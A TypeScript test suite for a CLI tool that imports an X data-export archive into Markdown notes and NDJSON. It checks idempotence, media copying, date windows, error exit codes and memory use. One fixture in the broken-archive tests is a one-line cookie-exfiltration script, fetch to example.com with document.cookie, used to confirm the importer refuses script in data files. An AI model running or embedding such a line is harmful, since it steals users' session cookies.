// `threadmark import` as the real bin: a fixture archive of alice_dev (made from the simulator's corpus, as X's
// data export holds it) into a vault and NDJSON, compared with what `export` writes for the same posts through the
// simulator; re-import idempotence; media copied from the archive; a window; broken archives refused with their
// exit codes; and a 200,000-post archive imported within a memory bound.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  createWriteStream,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getCorpus, HANDLES, IDS } from '../../sim/corpus.ts';
import { startStack, type Stack } from '../helpers/stack.ts';
import { BIN, hasScript, runBin, runBinInTerminal, runProcess, type Run } from '../helpers/cli-bin.ts';
import {
  aliceArchive,
  ARCHIVE_THREAD,
  generatedTweets,
  writeFolder,
  writeZip,
  type ArchiveFiles,
} from '../fixtures/archive/make-archive.ts';
import { ytdFile } from '../../sim/wire/archive.ts';

let dir: string;
let stack: Stack;
before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'threadmark-cli-import-'));
  await writeZip(aliceArchive(), join(dir, 'alice.zip'));
  writeFolder(aliceArchive(), join(dir, 'alice-folder'));
  stack = await startStack({ THREADMARK_CACHE_TTL_S: '0' });
});
after(async () => {
  await stack?.close();
  rmSync(dir, { recursive: true, force: true });
});

// No THREADMARK_SERVER, no network settings: the import needs neither.
const run = (args: string[]): Promise<Run> => runBin(args, { cwd: dir, env: {}, timeoutMs: 120_000 });

interface Line {
  type?: string;
  id?: string;
  reason?: string;
  posts?: number;
  [k: string]: unknown;
}
const linesOf = (file: string): Line[] =>
  readFileSync(join(dir, file), 'utf8')
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as Line);

const notesIn = (vault: string) =>
  new Map(
    readdirSync(join(dir, vault))
      .filter((f) => f.endsWith('.md'))
      .map((f) => [f, readFileSync(join(dir, vault, f), 'utf8')]),
  );

/** Posts the archive cannot carry whole: X's archive holds no quote, poll, card or Article of a post. */
function archiveKeepsWhole(id: string): boolean {
  const p = getCorpus().posts.get(id);
  return !!p && !p.quoteId && !p.poll && !p.card && !p.article;
}

describe('threadmark import', { concurrency: 1 }, () => {
  test('writes the same notes and post objects as export does for the same posts', async () => {
    const imported = await run(['import', 'alice.zip', '--with-replies', '--out', 'import.ndjson', '--vault', 'imp']);
    assert.equal(imported.code, 0, imported.stderr);
    const exported = await runBin(
      ['export', HANDLES.alice, '--with-replies', '--out', 'export.ndjson', '--vault', 'exp', '--server', stack.url],
      { cwd: dir, env: {}, timeoutMs: 120_000 },
    );
    assert.equal(exported.code, 0, exported.stderr);

    // Vault: every note of a thread the archive holds whole is the export's, but for its provenance.
    const mine = notesIn('imp');
    const theirs = notesIn('exp');
    let compared = 0;
    for (const [name, body] of theirs) {
      const id = / (\d{19})[ .]/.exec(name)![1]!;
      const thread = id === IDS.threadRoot ? IDS.thread : [id];
      if (!thread.every(archiveKeepsWhole)) continue;
      assert.ok(mine.has(name), `the import wrote ${name}`);
      assert.equal(body.replace('source: "export"', 'source: "archive"'), mine.get(name), name);
      compared++;
    }
    assert.ok(compared >= 13, `${compared} notes compared`);
    // The long post is whole (from note-tweet.js), the replies to others link the post they answer.
    const long = [...mine].find(([n]) => n.includes(IDS.noteTweet))![1];
    assert.match(long, /Notes and references: <https:\/\/example\.com\/notes\/invalidation> #caching/);
    const reply = [...mine].find(([n]) => n.includes(IDS.replies.aliceToBob))![1];
    assert.match(reply, new RegExp(`x\\.com/bob/status/${IDS.replies.bobTop}`));

    // NDJSON: the same post objects where the archive knows what the API knows.
    const ours = linesOf('import.ndjson');
    const api = new Map(linesOf('export.ndjson').map((l) => [l.id, l]));
    assert.deepEqual(ours.at(-1), { type: 'end', reason: 'end_of_timeline', posts: ours.length - 1 });
    let same = 0;
    for (const line of ours.slice(0, -1)) {
      const other = api.get(line.id);
      if (!other || !archiveKeepsWhole(line.id!)) continue;
      for (const key of ['id', 'url', 'createdAt', 'text', 'segments', 'media', 'replyTo', 'lang', 'source'])
        assert.deepEqual(line[key], other[key], `${line.id} ${key}`);
      const author = (p: Line) => {
        const { id, handle, name } = p.author as { id: string; handle: string; name: string };
        return { id, handle, name };
      };
      assert.deepEqual(author(line), author(other));
      assert.equal((line.metrics as { likes: number }).likes, (other.metrics as { likes: number }).likes);
      same++;
    }
    assert.ok(same >= 20, `${same} posts compared`);
  });

  test('a self-thread is one note; reposts are reposts of @handle; counts arrive as numbers', async () => {
    const r = await run(['import', 'alice-folder', '--with-reposts', '--vault', 'threads', '--out', 'folder.ndjson']);
    assert.equal(r.code, 0, r.stderr);
    const notes = notesIn('threads');
    const four = [...notes].filter(([n]) => ARCHIVE_THREAD.some((id) => n.includes(id)));
    assert.equal(four.length, 1, 'the archive-only thread of four is one note');
    assert.match(four[0]![1], /^thread_length: 4$/m);
    assert.match(four[0]![1], /\$TSLA/);
    const twelve = [...notes].find(([n]) => n.includes(IDS.threadRoot))![1];
    assert.match(twelve, /^thread_length: 12$/m);
    const lines = linesOf('folder.ndjson');
    const repost = lines.find((l) => l.repostOf) as { repostOf: { author: { handle: string }; text: string } };
    assert.ok(repost, 'reposts are kept with --with-reposts');
    assert.ok(['carol', 'dave', 'bigaccount'].includes(repost.repostOf.author.handle));
    assert.ok(repost.repostOf.text.length > 0);
    const video = lines.find((l) => l.id === IDS.threadVideo) as { media: Array<{ kind: string; url: string }> };
    assert.equal(video.media[0]!.kind, 'video');
    assert.match(video.media[0]!.url, /^https:\/\/video\.twimg\.com\/.*1280x720.*\.mp4/);
    const liked = lines.find((l) => l.id === IDS.threadRoot) as { metrics: { likes: unknown } };
    assert.equal(typeof liked.metrics.likes, 'number');
    // The zip and its folder are the same archive.
    const zipped = await run(['import', 'alice.zip', '--with-reposts', '--out', 'zipped.ndjson']);
    assert.equal(zipped.code, 0, zipped.stderr);
    assert.equal(readFileSync(join(dir, 'zipped.ndjson'), 'utf8'), readFileSync(join(dir, 'folder.ndjson'), 'utf8'));
  });

  test('a second import writes nothing new and says so; a later archive adds only its new notes', async () => {
    const first = await run(['import', 'alice.zip', '--vault', 'again']);
    assert.equal(first.code, 0, first.stderr);
    const before = notesIn('again');
    const second = await run(['import', 'alice.zip', '--vault', 'again']);
    assert.equal(second.code, 0, second.stderr);
    assert.ok(
      second.stdout
        .split('\n')
        .filter(Boolean)
        .every((l) => l.startsWith('unchanged\t')),
    );
    assert.match(second.stderr, /nothing new in again \(\d+ notes already there\)/);
    assert.deepEqual(notesIn('again'), before);
    // A later archive: one more post.
    const later: ArchiveFiles = aliceArchive();
    const extra = {
      tweet: {
        id_str: '1900000000000970001',
        created_at: 'Sun Mar 08 12:00:00 +0000 2026',
        full_text: 'A post written after the first archive.',
        display_text_range: ['0', '39'],
        entities: { hashtags: [], symbols: [], user_mentions: [], urls: [] },
        favorite_count: '1',
        retweet_count: '0',
      },
    };
    const part0 = later.get('data/tweets.js') as string;
    later.set('data/tweets.js', part0.replace('= [', `= [\n${JSON.stringify(extra)},`));
    await writeZip(later, join(dir, 'later.zip'));
    const third = await run(['import', 'later.zip', '--vault', 'again']);
    assert.equal(third.code, 0, third.stderr);
    const written = third.stdout.split('\n').filter((l) => /^(written|renamed)\t/.test(l));
    assert.deepEqual(written.length, 1, third.stdout);
    assert.match(written[0]!, /1900000000000970001 A post written after the first archive\.md$/);
  });

  test('--media copies photos and videos from the archive, by content hash, without the network', async () => {
    const r = await run(['import', 'alice.zip', '--vault', 'media', '--media']);
    assert.equal(r.code, 0, r.stderr);
    const files = readdirSync(join(dir, 'media', 'attachments')).filter((f) => !f.startsWith('.'));
    assert.ok(files.some((f) => f.endsWith('.png')) && files.some((f) => f.endsWith('.mp4')), files.join(' '));
    const thread = [...notesIn('media')].find(([n]) => n.includes(IDS.threadRoot))![1];
    assert.match(thread, /!\[\[attachments\/[0-9a-f]{32}\.mp4\]\] · \[▶ Video/);
    assert.match(thread, /!\[\[attachments\/[0-9a-f]{32}\.png\]\] · \[original\]\(https:\/\/pbs\.twimg\.com\/media\//);
    assert.match(r.stderr, /threadmark: media: \d+ copied from the archive/);
    const again = await run(['import', 'alice.zip', '--vault', 'media', '--media']);
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stderr, /media: 0 copied from the archive \(0\.0 MB\), \d+ already in/);
    assert.match(again.stderr, /nothing new in media/);
  });

  test('--since/--until keep a window; --format json writes one document', async () => {
    const r = await run([
      'import',
      'alice.zip',
      '--since',
      '2026-03-02',
      '--until',
      '2026-03-03',
      '--format',
      'json',
      '--out',
      'w.json',
    ]);
    assert.equal(r.code, 0, r.stderr);
    const doc = JSON.parse(readFileSync(join(dir, 'w.json'), 'utf8')) as {
      handle: string;
      window: { since: string; until: string };
      posts: Array<{ createdAt: string }>;
      end: Line;
    };
    assert.equal(doc.handle, HANDLES.alice);
    assert.deepEqual(doc.window, { since: '2026-03-02T00:00:00.000Z', until: '2026-03-03T00:00:00.000Z' });
    assert.ok(doc.posts.length >= 12);
    assert.ok(doc.posts.every((p) => p.createdAt.startsWith('2026-03-02')));
    assert.deepEqual(doc.end, { type: 'end', reason: 'window', posts: doc.posts.length });
    const bad = await run(['import', 'alice.zip', '--since', 'yesterday']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /^threadmark: invalid_date: --since/m);
  });

  test(
    'on a terminal the progress is a bar redrawn in place, then the summary line',
    { skip: !hasScript() },
    async () => {
      const r = await runBinInTerminal(['import', 'alice.zip', '--out', 'tty.ndjson'], {
        cwd: dir,
        timeoutMs: 120_000,
      });
      assert.equal(r.code, 0, r.stdout);
      const posts = linesOf('tty.ndjson').length - 1;
      assert.match(
        r.stdout,
        new RegExp(`\\r\\[#{24}\\] ${posts}/${posts} posts, reached \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d UTC\\r?\\n`),
      );
      assert.match(
        r.stdout,
        new RegExp(`threadmark: import: ${posts} posts \\(\\d+ threads\\) from alice\\.zip to tty\\.ndjson`),
      );
    },
  );

  describe('broken archives get a problem line and their exit code', () => {
    const cases: Array<[string, () => Promise<string>, string, number]> = [
      ['no such path', async () => 'nowhere.zip', 'archive_not_found', 3],
      [
        'not a zip',
        async () => {
          writeFileSync(join(dir, 'notes.txt.zip'), 'just some text, long enough to be a file of its own');
          return 'notes.txt.zip';
        },
        'not_a_zip',
        2,
      ],
      [
        'a truncated zip',
        async () => {
          const whole = readFileSync(join(dir, 'alice.zip'));
          writeFileSync(join(dir, 'cut.zip'), whole.subarray(0, Math.floor(whole.length / 2)));
          return 'cut.zip';
        },
        'truncated_archive',
        2,
      ],
      [
        'no tweets.js',
        async () => {
          const files = aliceArchive();
          files.delete('data/tweets.js');
          files.delete('data/tweets-part1.js');
          await writeZip(files, join(dir, 'no-tweets.zip'));
          return 'no-tweets.zip';
        },
        'no_tweets',
        2,
      ],
      [
        'a data file that is not the window.YTD assignment',
        async () => {
          const files = aliceArchive();
          files.set(
            'data/tweets-part1.js',
            'fetch("https://example.com/?" + document.cookie); window.YTD.tweets.part1 = []',
          );
          await writeZip(files, join(dir, 'script.zip'));
          return 'script.zip';
        },
        'invalid_archive_file',
        2,
      ],
      [
        'an array cut off',
        async () => {
          const files = aliceArchive();
          const text = files.get('data/tweets.js') as string;
          files.set('data/tweets.js', text.slice(0, Math.floor(text.length / 2)));
          writeFolder(files, join(dir, 'cut-folder'));
          return 'cut-folder';
        },
        'invalid_archive_file',
        2,
      ],
    ];
    for (const [what, make, code, exit] of cases) {
      test(what, async () => {
        const r = await run(['import', await make(), '--out', 'broken.ndjson', '--vault', 'broken', '--media']);
        assert.equal(r.code, exit, r.stderr);
        assert.match(r.stderr, new RegExp(`^threadmark: ${code}: `, 'm'));
        assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
        assert.ok(!existsSync(join(dir, 'broken.ndjson')) && !existsSync(join(dir, 'broken')), 'nothing written');
      });
    }
  });

  test('a 200,000-post archive streams through within a memory bound', async () => {
    const COUNT = 200_000;
    const big = join(dir, 'big');
    mkdirSync(join(big, 'data'), { recursive: true });
    const owner = { id: '1461000001', handle: 'alice_dev' };
    writeFileSync(
      join(big, 'data', 'account.js'),
      ytdFile('account', 0, [
        { account: { accountId: owner.id, username: owner.handle, accountDisplayName: 'Alice' } },
      ]),
    );
    const out = createWriteStream(join(big, 'data', 'tweets.js'));
    out.write('window.YTD.tweets.part0 = [');
    let first = true;
    for (const t of generatedTweets(COUNT, owner)) {
      if (!out.write(`${first ? '' : ','}\n${t}`)) await once(out, 'drain');
      first = false;
    }
    out.end('\n]');
    await once(out, 'close');
    await writeZip(
      new Map([
        ['data/account.js', readFileSync(join(big, 'data', 'account.js'))],
        ['data/tweets.js', readFileSync(join(big, 'data', 'tweets.js'))],
      ]),
      join(dir, 'big.zip'),
    );
    rmSync(big, { recursive: true });
    // The child's peak resident memory, as the kernel counts it. Its heap is capped below what the archive's posts
    // would take together, so holding them would end the import with an out-of-memory crash; the cap also keeps
    // the collector from letting garbage pile up to whatever a Node line allows by default.
    const r = await runProcess(
      '/usr/bin/time',
      [
        '-f',
        'maxrss_kb=%M',
        process.execPath,
        '--max-old-space-size=128',
        BIN,
        'import',
        'big.zip',
        '--out',
        'big.ndjson',
      ],
      {
        cwd: dir,
        env: {},
        timeoutMs: 280_000,
      },
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, new RegExp(`import: ${COUNT} posts \\(${COUNT - COUNT / 10} threads\\)`));
    const kb = Number(/maxrss_kb=(\d+)/.exec(r.stderr)![1]);
    const zipMb = readFileSync(join(dir, 'big.zip')).length / 1024 / 1024;
    console.log(`200,000 posts (${zipMb.toFixed(0)} MB zip): peak RSS ${(kb / 1024).toFixed(0)} MB`);
    assert.ok(kb < 300 * 1024, `peak RSS ${kb} KB`);
    const lines = readFileSync(join(dir, 'big.ndjson'), 'utf8').trimEnd().split('\n');
    assert.equal(lines.length, COUNT + 1);
  });
});
